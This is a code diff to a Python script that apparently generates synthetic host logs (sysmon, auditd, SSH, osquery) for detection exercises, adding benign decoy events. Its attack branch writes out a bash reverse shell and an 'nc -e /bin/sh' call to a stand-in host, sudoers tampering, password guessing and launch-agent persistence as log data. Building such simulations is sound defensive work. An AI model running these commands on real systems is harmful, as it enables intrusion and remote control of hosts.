@@ -46,6 +46,9 @@ def sysmon(log):
         created(log, time, "/usr/bin/vim", "/home/akaya/notes.txt", "akaya")
     created(log, log.at("09:40:00"), "/usr/bin/dpkg", "/etc/cron.d/sysstat", "root")
     created(log, log.at("09:41:00"), "/usr/bin/crontab", "/var/spool/cron/crontabs/akaya", "akaya")
+    process(log, log.at("09:50:00"), "/usr/bin/grep", "grep -rn /dev/tcp/ /opt/deploy", "akaya", "/usr/bin/bash", "-bash")
+    sysmon_event(log, log.at("09:55:00"), 23, 5, [("ProcessGuid", guid(log)), ("ProcessId", 4100), ("User", "root"), ("Image", "/usr/bin/rm"), ("TargetFilename", "/etc/cron.d/old-report"),
+                                                  ("Hashes", "-"), ("IsExecutable", "-"), ("Archived", "-")])
     if log.attack:
         process(log, log.at("13:00:10"), "/usr/bin/bash", f"bash -i >& /dev/tcp/{STRANGERS[1]}/4444 0>&1".replace("&", "&amp;").replace(">", "&gt;"), "www-data", "/usr/bin/php", "php-fpm: pool www")
         process(log, log.at("13:01:30"), "/usr/bin/nc", f"nc -e /bin/sh {STRANGERS[1]} 4445", "www-data", "/usr/bin/dash", "sh -c nc")
@@ -71,6 +74,7 @@ def audit(log):
         syscall(log, time, 268, "fchmodat", "chmod", "/usr/bin/chmod", PEOPLE[n % 6], [("/opt/deploy/roll.sh", "NORMAL")], "a0=ffffff9c a1=55d1 a2=1ed a3=0 ")
         syscall(log, time + timedelta(seconds=40), 257, "openat", "vim", "/usr/bin/vim.basic", PEOPLE[n % 6], [("/etc/hosts", "NORMAL")], "a0=ffffff9c a1=55d1 a2=241 a3=1a4 ")
     syscall(log, log.at("09:30:00"), 257, "openat", "dpkg", "/usr/bin/dpkg", "root", [("/etc/sudoers.d/README", "CREATE")], key="sudoers")
+    syscall(log, log.at("09:35:00"), 268, "fchmodat", "chmod", "/usr/bin/chmod", "akaya", [("/usr/bin/ls", "NORMAL")], "a0=ffffff9c a1=55d1 a2=9ed a3=0 ", success="no")
     if log.attack:
         syscall(log, log.at("13:10:00"), 268, "fchmodat", "chmod", "/usr/bin/chmod", "jdoe", [("/tmp/.x/sh", "NORMAL")], "a0=ffffff9c a1=55d1 a2=9ed a3=0 ")
         syscall(log, log.at("13:12:00"), 257, "openat", "tee", "/usr/bin/tee", "jdoe", [("/etc/sudoers.d/90-jdoe", "CREATE")], "a0=ffffff9c a1=7ffd a2=241 a3=1b6 ", key="sudoers")
@@ -89,6 +93,9 @@ def secure(log):
             line(time - timedelta(seconds=8), f"sshd[{900 + n}]: Failed password for {user} from {OFFICE[user]} port {40000 + n} ssh2")
         line(time, f"sshd[{900 + n}]: Accepted publickey for {user} from {OFFICE[user]} port {40000 + n} ssh2: RSA SHA256:example")
         line(time + timedelta(seconds=30), f"sudo: {user} : TTY=pts/0 ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status nginx")
+    for n, user in enumerate(PEOPLE):
+        line(log.at("12:00:00", 20 * n), f"sshd[{1300 + n}]: Accepted publickey for {user} from 10.20.0.7 port {42000 + n} ssh2: RSA SHA256:example")
+        line(log.at("12:02:30", 20 * n), f"su: FAILED su for {user} by akaya")
     if log.attack:
         guessed = ["admin", "root", "test", "oracle", "ubuntu", "deploy"]
         for n in range(24):
@@ -112,6 +119,7 @@ def osquery(log):
         row(time, "process_events", {"cmdline": ["/usr/bin/git pull", "/bin/ls -la", "/usr/bin/ssh web-02.corp.example"][n % 3], "path": ["/usr/bin/git", "/bin/ls", "/usr/bin/ssh"][n % 3],
                                      "pid": str(700 + n), "parent": "310", "uid": "501", "username": "efischer", "event_type": "exec", "cwd": "/Users/efischer"})
         written(time + timedelta(seconds=5), ["/Users/efischer/Documents/plan.txt", "/etc/hosts", "/Users/efischer/Library/Preferences/x.plist"][n % 3], ["CREATED", "UPDATED", "UPDATED"][n % 3])
+    written(log.at("09:00:00"), "/Users/efischer/Library/LaunchAgents/com.example.chat.plist", "UPDATED")
     if log.attack:
         written(log.at("13:40:00"), "/Users/efischer/Library/LaunchAgents/com.example.update.plist")
         written(log.at("13:41:00"), "/Library/LaunchDaemons/com.example.sync.plist")
